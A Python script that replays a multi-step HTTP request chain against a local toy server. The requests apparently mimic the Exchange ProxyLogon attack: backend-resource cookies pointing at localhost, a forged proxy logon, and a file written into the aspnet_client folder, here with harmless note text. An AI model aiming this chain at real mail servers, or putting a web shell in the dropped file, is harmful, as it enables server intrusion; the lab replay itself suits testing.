# ruff: noqa
"""requests port of the lab chain: steps registered by a decorator, a namespace of settings,
one prepared request per step (toy server only)."""

import json
import sys
from types import SimpleNamespace

import requests

CFG = SimpleNamespace(
    agent="Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
    domain="lab.invalid",
    mailbox="administrator@lab.invalid",
    ticket=1843073522,
    note="/aspnet_client/system_web/readme_91453.txt",
    request_id="20200302-7720",
)
STEPS = []


def step(fn):
    STEPS.append(fn)
    return fn


def browser():
    return {
        "User-Agent": CFG.agent,
        "x-requested-with": "XMLHttpRequest",
        "Accept": "*/*",
        "accept-language": "en-US,en;q=0.9",
        "connection": "close",
    }


@step
def probe(base, state):
    headers = browser() | {
        "cookie": f"X-AnonResource=true; X-AnonResource-Backend={CFG.domain}; "
        f"X-BEResource=localhost@{CFG.domain}/ews/exchange.asmx?a%3D~{CFG.ticket}"
    }
    params = [
        ("Pad", "A" * 37),
        ("Protocol", "Autodiscoverv1"),
        ("Email", f"{CFG.mailbox}/mapi/nspi"),
        ("RequestId", CFG.request_id),
    ]
    return requests.Request(
        "GET", base + "/autodiscover/autodiscover.json", headers=headers, params=params
    )


@step
def identity(base, state):
    headers = {
        "user-agent": CFG.agent,
        "msexchlogonmailbox": "S-1-5-20",
        "content-type": "application/json",
        "X-BEResource": f"localhost@{CFG.domain}/ecp/proxyLogon.ecp",
    }
    body = json.dumps({"mailbox": CFG.mailbox, "requestKind": "identity", "seq": 1})
    return requests.Request("POST", base + "/ecp/proxyLogon.ecp", headers=headers, data=body)


@step
def note(base, state):
    who = state.get("who") or "anonymous"
    text = "\n".join("note %d of 3 for %s" % (n, who) for n in range(1, 4))
    headers = {"user-agent": CFG.agent, "X-Note-Path": CFG.note, "Content-Type": "text/plain"}
    return requests.Request("POST", base + CFG.note, headers=headers, data=text.encode())


@step
def check(base, state):
    return requests.Request("GET", base + CFG.note, headers=browser())


def main():
    base = "http://127.0.0.1:%s" % (sys.argv[1] if len(sys.argv) > 1 else "8080")
    session = requests.Session()
    session.headers.clear()
    state = {}
    for fn in STEPS:
        resp = session.send(session.prepare_request(fn(base, state)), timeout=10)
        if fn is probe and resp.status_code >= 500:
            return 1
        if fn is identity and resp.status_code == 200:
            state["who"] = resp.text.strip()
        state[fn.__name__] = resp.status_code
    print(json.dumps(state, indent=2))
    return 0


if __name__ == "__main__":
    sys.exit(main())
